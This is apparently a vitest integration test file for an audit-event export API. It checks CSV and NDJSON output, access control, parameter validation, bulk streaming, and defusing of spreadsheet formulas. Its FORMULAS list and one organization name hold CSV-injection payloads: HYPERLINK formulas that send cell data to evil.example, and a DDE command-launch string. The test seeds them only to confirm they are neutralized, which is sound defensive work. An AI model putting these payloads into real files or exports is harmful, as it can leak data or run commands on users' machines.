import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEventInput } from '../../server/audit/actions.ts';
import { appendAuditEvents } from '../../server/audit/append.ts';
import { type Actor, systemActor } from '../../server/authz/actor.ts';
import { neutralizeCell } from '../../server/commands/auditLog/export.ts';
import { ApiClient } from '../support/api.ts';
import { signedIn } from '../support/factories.ts';
import { startTestContext, type TestContext } from '../support/harness.ts';
import { BULK_TEST_MS } from '../support/timeouts.ts';

type Client = Awaited<ReturnType<typeof signedIn>>;

let context: TestContext;
let superadmin: Client;
let auditor: Client;
let admin: Client;
let staff: Client;
const actor: Actor = { ...systemActor('importer'), userId: randomUUID() };
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  '+1+2',
  '-3+cmd|" /C calc"!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

/** Parses RFC 4180 CSV (quoted fields, doubled quotes, CRLF or LF) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function seed(events: AuditEventInput[], at: Date, by: Actor = actor): Promise<void> {
  await context.services.orm.em.fork().transactional((em) => appendAuditEvents(em, by, events, at));
}

beforeAll(async () => {
  context = await startTestContext();
  superadmin = await signedIn(context, 'superadmin');
  auditor = await signedIn(context, 'auditor');
  admin = await signedIn(context, 'admin');
  staff = await signedIn(context, 'staff');
  await seed(
    FORMULAS.map((formula, i) => ({
      action: 'user.deactivated',
      targetType: 'User',
      targetId: `formula-${i}`,
      targetLabel: formula,
      reason: formula,
      details: { note: formula, n: i },
    })),
    new Date('2026-02-01T12:00:00.000Z'),
  );
  await seed(
    [{ action: 'user.updated', targetId: 'plain', reason: 'Обычная причина, "с кавычками"' }],
    new Date('2026-02-02T12:00:00.000Z'),
  );
});
afterAll(async () => {
  await context.close();
});

describe('neutralizeCell', () => {
  it('prefixes formula triggers with a quote and leaves other text alone', () => {
    for (const formula of FORMULAS) expect(neutralizeCell(formula)).toBe(`'${formula}`);
    expect(neutralizeCell('Иванов')).toBe('Иванов');
    expect(neutralizeCell('a=b')).toBe('a=b');
    expect(neutralizeCell('')).toBe('');
  });
});

describe('GET /audit-events/export', () => {
  it('401 without a session; 403 for admin and staff, audited as denied', async () => {
    const path = '/api/v1/audit-events/export?format=csv';
    expect((await new ApiClient(context.baseUrl).get(path)).status).toBe(401);
    for (const client of [admin, staff]) {
      const response = await client.api.get<{ code: string }>(path);
      expect(response.status).toBe(403);
      expect(response.body.code).toBe('forbidden');
      const { rows } = await context.services.pool.query(
        `select outcome from audit_event where action = 'audit.exported' and actor_id = $1`,
        [client.user.id],
      );
      expect(rows).toEqual([{ outcome: 'denied' }]);
    }
  });

  it('streams CSV as an attachment, with formula cells neutralized', async () => {
    const response = await auditor.api.get(
      `/api/v1/audit-events/export?format=csv&actorId=${actor.userId}`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="audit-events-.*\.csv"$/,
    );
    const [header, ...rows] = parseCsv(response.text);
    expect(header).toEqual([
      'seq',
      'at',
      'actor_id',
      'actor_label',
      'actor_role',
      'ip',
      'user_agent',
      'request_id',
      'action',
      'target_type',
      'target_id',
      'target_label',
      'outcome',
      'reason',
      'diff',
      'details',
      'hash',
    ]);
    expect(rows).toHaveLength(FORMULAS.length + 1);
    const column = (name: string) => (header as string[]).indexOf(name);
    for (const [i, formula] of FORMULAS.entries()) {
      const row = rows[i] as string[];
      expect(row[column('reason')]).toBe(`'${formula}`);
      expect(row[column('target_label')]).toBe(`'${formula}`);
      expect(JSON.parse(row[column('details')] as string)).toEqual({ note: formula, n: i });
      expect(row[column('at')]).toBe('2026-02-01T12:00:00.000Z');
      expect(row[column('hash')]).toMatch(/^[0-9a-f]{64}$/);
    }
    expect(rows.at(-1)?.[column('reason')]).toBe('Обычная причина, "с кавычками"');
    const seqs = rows.map((row) => Number(row[0]));
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b));
    for (const row of rows)
      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
    const { rows: events } = await context.services.pool.query(
      `select details from audit_event where action = 'audit.exported' and actor_id = $1`,
      [auditor.user.id],
    );
    expect(events.at(-1)?.details).toEqual({
      format: 'csv',
      filters: { actorId: actor.userId },
      via: 'api',
    });
  });

  it('neutralizes a label that came in through the API', async () => {
    const name = '=HYPERLINK("http://evil.example","Отдел")';
    const created = await superadmin.api.post<{ id: string }>('/api/v1/organizations', {
      name,
      kind: 'department',
    });
    expect(created.status).toBe(201);
    const response = await superadmin.api.get(
      `/api/v1/audit-events/export?targetId=${created.body.id}`,
    );
    const [header, row] = parseCsv(response.text);
    expect(row?.[(header as string[]).indexOf('target_label')]).toBe(`'${name}`);
  });

  it('streams NDJSON in the API event shape, filtered by time range', async () => {
    const response = await superadmin.api.get(
      `/api/v1/audit-events/export?format=ndjson&actorId=${actor.userId}&from=2026-02-02T00:00:00Z`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('application/x-ndjson');
    expect(response.headers.get('content-disposition')).toMatch(/\.ndjson"$/);
    const lines = response.text.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    const event = JSON.parse(lines[0] as string);
    expect(event).toMatchObject({
      at: '2026-02-02T12:00:00.000Z',
      actor: { id: actor.userId, label: 'importer', role: null },
      action: 'user.updated',
      target: { type: null, id: 'plain', label: null },
      outcome: 'success',
      reason: 'Обычная причина, "с кавычками"',
      diff: null,
      details: null,
    });
    expect(typeof event.id).toBe('number');
    expect(event.hash).toMatch(/^[0-9a-f]{64}$/);
    const all = await superadmin.api.get(
      `/api/v1/audit-events/export?format=ndjson&actorId=${actor.userId}`,
    );
    const parsed = all.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(parsed[0].details).toEqual({ note: FORMULAS[0], n: 0 });
    expect(parsed[0].reason).toBe(FORMULAS[0]);
  });

  it('refuses bad parameters with 400 problem+json', async () => {
    for (const query of [
      'format=xlsx',
      'format=',
      'from=not-a-date',
      'to=2026-02-30T25:00:00Z',
      'from=2026-03-01T00:00:00Z&to=2026-02-01T00:00:00Z',
      'limit=10',
      'action=nope',
    ]) {
      const response = await auditor.api.get(`/api/v1/audit-events/export?${query}`);
      expect(response.status, query).toBe(400);
      expect(response.headers.get('content-type')).toContain('application/problem+json');
    }
  });

  it('streams a large export completely: every event once, in chain order, in both formats', {
    timeout: BULK_TEST_MS,
  }, async () => {
    const bulk = systemActor('bulk-export');
    const batch: AuditEventInput[] = Array.from({ length: 5_000 }, (_, i) => ({
      action: 'user.updated',
      targetType: 'User',
      targetId: randomUUID(),
      targetLabel: `person ${i}`,
      diff: { before: { title: 'Инженер' }, after: { title: 'Старший инженер' } },
    }));
    for (let i = 0; i < 8; i += 1) await seed(batch, new Date('2026-03-01T00:00:00Z'), bulk);
    const { rows } = await context.services.pool.query<{ n: string }>(
      `select seq::text as n from audit_event where at = '2026-03-01T00:00:00Z' order by seq`,
    );
    const seeded = rows.map((row) => Number(row.n));
    expect(seeded).toHaveLength(40_000);
    // Throughput is a benchmark figure (`npm run bench -- directory`); it is logged here only.
    for (const format of ['ndjson', 'csv'] as const) {
      const started = performance.now();
      const response = await auditor.api.get(
        `/api/v1/audit-events/export?format=${format}&from=2026-03-01T00:00:00Z&to=2026-03-01T00:00:00Z`,
      );
      const seconds = (performance.now() - started) / 1000;
      expect(response.status).toBe(200);
      const exported =
        format === 'ndjson'
          ? response.text
              .trimEnd()
              .split('\n')
              .map((line) => (JSON.parse(line) as { id: number }).id)
          : parseCsv(response.text)
              .slice(1)
              .map((row) => Number(row[0]));
      // Exactly the seeded events, each once, in the order of the chain.
      expect(exported).toEqual(seeded);
      console.info(`audit export ${format}: ${Math.round(40_000 / seconds)} events/s`);
    }
  });
});
